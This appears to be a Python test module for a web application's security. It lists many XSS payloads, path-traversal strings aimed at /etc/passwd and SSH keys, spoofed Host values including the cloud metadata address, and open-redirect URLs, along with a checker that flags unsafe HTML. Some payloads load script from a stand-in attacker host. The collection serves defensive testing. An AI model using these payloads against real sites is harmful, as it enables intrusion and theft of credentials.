"""What attackers send, one of each family: words for scripts, paths out of a folder, names of other hosts.

`harmless` tells whether a page that was given such words is still only a page.
"""

from selectolax.lexbor import LexborHTMLParser

XSS = (
    # Scripts as they are, in other letters, cut in two, nested, in foreign namespaces
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0cdefer>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script>pwned()//",
    "<script/x>pwned()</script\t\n x>",
    "<svg><script>pwned()</script></svg>",
    "<math><mtext><script>pwned()</script></mtext></math>",
    "<script type=module>import('//evil.example/x.js')</script>",
    # Handlers of events
    "<img src=x onerror=pwned()>",
    "<img/src='x'/onerror=pwned()>",
    "<IMG SRC=x OnErRoR=pwned()>",
    "<img src=x onerror\n=\npwned()>",
    "<body onload=pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=&#112;wned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<div style='animation:x' onanimationstart=pwned()>",
    "<p onpointerover=pwned()>看这里</p>",
    # Out of an attribute, a title, a comment, a text area, a script of data
    '" onfocus=pwned() autofocus x="',
    "' onmouseover='pwned()' x='",
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</noscript><script>pwned()</script>",
    '{"a": "</script><img src=x onerror=pwned()>"}',
    # Addresses that are scripts or other pages
    "<a href=javascript:pwned()>来源</a>",
    "<a href='jav&#x09;ascript:pwned()'>来源</a>",
    "<a href='\x01javascript:pwned()'>来源</a>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<form action=javascript:pwned()><button>提交</button></form>",
    "<object data='data:text/html,<script>pwned()</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=pwned()>'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<xss style='background:url(javascript:pwned())'>",
    # What changes when it is cleaned, written otherwise, or put into templates
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<math><mi><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mi></math>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "＜script＞pwned()＜/script＞",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "{{constructor.constructor('pwned()')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${pwned()}",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwned()//'>",
)

# Ways out of a folder, and into places that no page is about.
PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..././..././etc/passwd",
    "..;/..;/etc/passwd",
    "./../../app.py",
    "../app.py",
    "%2e%2e/app.py",
    "..%2fapp.py",
    "../security.py",
    "../templates/base.html.j2",
    "..%2fwords%2fframe.toml",
    "base.css/../../app.py",
    "base.css%00.py",
    "%00../app.py",
    "/etc/passwd",
    "//etc/passwd",
    "%2fetc%2fpasswd",
    "file:///etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
    "C:%5cwindows%5cwin.ini",
    "C:/windows/win.ini",
    "~/.ssh/id_rsa",
    "%uff0e%uff0e/app.py",
    "．．/app.py",
    "." * 3000,
)

# What a browser says that was told a wrong address for a name, and what a proxy or a mischief-maker says.
HOSTS = (
    "evil.example",
    "evil.example:8760",
    "127.0.0.1.evil.example",
    "localhost.evil.example",
    "evil.example@127.0.0.1",
    "127.0.0.1@evil.example",
    "169.254.169.254",
    "[::ffff:10.0.0.1]",
    "0x7f000001",
    "127.0.0.1 evil.example",
    "",
)

# Where somebody is not to be sent after he logged in.
ELSEWHERE = (
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "/\t/evil.example/",
    "http:evil.example",
    "javascript:pwned()",
    "/%0d%0aLocation:https://evil.example/\r\nX: y",
    " //evil.example/",
    "evil.example",
)


def harmless(html: str) -> list[str]:
    """What in a page could do something that no page of ours does; nothing for a harmless one."""
    found = []
    for node in LexborHTMLParser(html).css("*"):
        attributes = {name.lower(): (value or "").strip().lower() for name, value in node.attributes.items()}
        found += [f"{node.tag} {name}" for name in attributes if name.startswith("on") or name == "style"]
        found += [
            node.html[:80] for name in ("href", "src", "action", "formaction") if not _own(attributes, name)
        ]
        if node.tag == "script" and "src" not in attributes and attributes.get("type") != "application/json":
            found.append(node.html[:80])
        if node.tag in ("iframe", "object", "embed", "base", "style", "marquee", "xss"):
            found.append(node.tag)
    return found


def _own(attributes: dict[str, str], name: str) -> bool:
    """Whether an address leads to this server, if there is one."""
    address = attributes.get(name, "/")
    return address.startswith(("/", "?", "#", "data:image/png")) and not address.startswith("//")
